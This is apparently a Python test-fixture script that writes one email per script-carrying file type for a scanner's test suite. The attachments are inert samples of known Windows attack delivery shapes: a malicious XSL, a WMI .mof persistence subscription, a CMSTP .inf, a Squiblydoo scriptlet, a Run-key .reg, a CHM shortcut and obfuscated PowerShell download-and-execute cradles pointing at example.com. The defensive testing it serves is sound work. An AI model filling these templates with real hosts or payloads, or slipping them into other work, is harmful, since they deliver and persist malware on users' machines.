#!/usr/bin/env python3
"""mkmail.py OUTDIR - one mail per script-carrying language for tests/langs/run.sh.

Each attachment is the delivery shape of a public technique with an inert payload
(calc, example.com): XSL for wmic /format, a WMI .mof subscription, a CMSTP .inf, a
Squiblydoo scriptlet, a .reg with a hex(2) Run value, a CHM page with the HTML Help
ShortCut control, obfuscated PowerShell (ticks, -f, [char] joins), a deflate-compressed
cradle, a UTF-16LE script and a javascript-obfuscator string array; plus a clean XSLT stylesheet and a driver .inf.
"""
import base64, os, sys, zlib
from email.message import EmailMessage

CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.com/a.ps1')"


def mail(path, name, data, subtype="octet-stream"):
    m = EmailMessage()
    m["From"], m["To"], m["Subject"] = "a@example.com", "b@example.com", "files"
    m.set_content("see attached")
    m.add_attachment(data, maintype="application", subtype=subtype, filename=name)
    with open(path, "wb") as f:
        f.write(bytes(m))


def main(out):
    os.makedirs(out, exist_ok=True)
    raw = zlib.compressobj(9, zlib.DEFLATED, -15)
    deflated = base64.b64encode(raw.compress(CRADLE.encode()) + raw.flush()).decode()
    reg_val = "mshta javascript:close(new ActiveXObject('WScript.Shell').Run('calc'))"
    hx = ",".join("%02x" % c for c in (reg_val.encode("utf-16le") + b"\0\0"))
    files = {
        "xsl": ("style.xsl", '<?xml version="1.0"?><stylesheet xmlns="http://www.w3.org/1999/XSL/'
                'Transform" xmlns:ms="urn:schemas-microsoft-com:xslt" xmlns:user="p" version="1.0">'
                '<ms:script implements-prefix="user" language="JScript"><![CDATA[var r = new '
                'ActiveXObject("WScript.Shell").Run("calc.exe");]]></ms:script></stylesheet>'),
        "mof": ("update.mof", 'instance of __EventFilter as $F { Name = "f"; Query = "SELECT * FROM '
                '__InstanceModificationEvent WITHIN 60"; };\ninstance of CommandLineEventConsumer as $C '
                '{ Name = "c"; CommandLineTemplate = "cmd.exe /c calc.exe"; };\ninstance of '
                '__FilterToConsumerBinding { Consumer = $C; Filter = $F; };\n'),
        "inf": ("setup.inf", "[version]\r\nSignature=$chicago$\r\nAdvancedINF=2.5\r\n"
                "[DefaultInstall_SingleUser]\r\nUnRegisterOCXs=UnRegisterOCXSection\r\n"
                "[UnRegisterOCXSection]\r\n%11%\\scrobj.dll,NI,https://example.com/test.sct\r\n"),
        "sct": ("file.sct", '<?XML version="1.0"?>\n<scriptlet>\n<registration progid="T" classid="{A1112221'
                '-0000-0000-3000-000DA00DABFC}">\n<script language="JScript"><![CDATA[ var r = new '
                'ActiveXObject("WScript.Shell").Run("calc.exe"); ]]></script>\n</registration>\n'
                '</scriptlet>\n'),
        "reg": ("run.reg", "Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\"
                "Microsoft\\Windows\\CurrentVersion\\Run]\r\n\"upd\"=hex(2):" + hx + "\r\n"),
        "chm": ("topic.htm", '<HTML><BODY><OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-'
                '00aa003b7a11" width=1 height=1><PARAM name="Command" value="ShortCut"><PARAM '
                'name="Item1" value=",cmd.exe,/c calc.exe"></OBJECT><SCRIPT>x.Click();</SCRIPT>'
                '</BODY></HTML>'),
        "ps1-tokens": ("a.ps1", "$u = (\"{2}{0}{1}\" -f 'ample.com','/a.ps1','http://ex')\n"
                       "$d = -join ('Down','load','String')\n"
                       "&( $env:comspec[4,15,25]-Join'') ((New-Object Net.WebClient).$d($u))\n"),
        "ps1-deflate": ("b.ps1", "IEX (New-Object IO.StreamReader(New-Object IO.Compression."
                        "DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" + deflated +
                        "'),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"),
        "js-strarray": ("d.js", "var _0x4c2a=['\\x52\\x75\\x6e','WScript.Shell','http://example.com/p.exe',"
                        "'MSXML2.XMLHTTP','GET','open','send','responseBody'];(function(_0x1b,_0x4c){var "
                        "_0x2f=function(_0x3e){while(--_0x3e){_0x1b['push'](_0x1b['shift']());}};_0x2f(++_0x4c);}"
                        "(_0x4c2a,0x3));var _0x2f2f=function(_0x1b,_0x4c){_0x1b=_0x1b-0x0;var _0x2f=_0x4c2a[_0x1b];"
                        "return _0x2f;};var s=new ActiveXObject(_0x2f2f('0x6'));s[_0x2f2f('0x5')]('calc.exe',0x0);"),
        "clean-xsl": ("report.xsl", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/'
                      'XSL/Transform"><xsl:template match="/"><html><body><xsl:value-of select="t"/>'
                      '</body></html></xsl:template></xsl:stylesheet>'),
        "clean-inf": ("driver.inf", "[Version]\r\nSignature=\"$WINDOWS NT$\"\r\nClass=Net\r\n"
                      "[Install]\r\nCopyFiles=Files\r\nAddReg=Reg\r\n"),
    }
    for key, (name, text) in files.items():
        mail(os.path.join(out, key + ".eml"), name, text.encode())
    mail(os.path.join(out, "ps1-utf16.eml"), "c.ps1", b"\xff\xfe" + CRADLE.encode("utf-16le"))


if __name__ == "__main__":
    main(sys.argv[1])
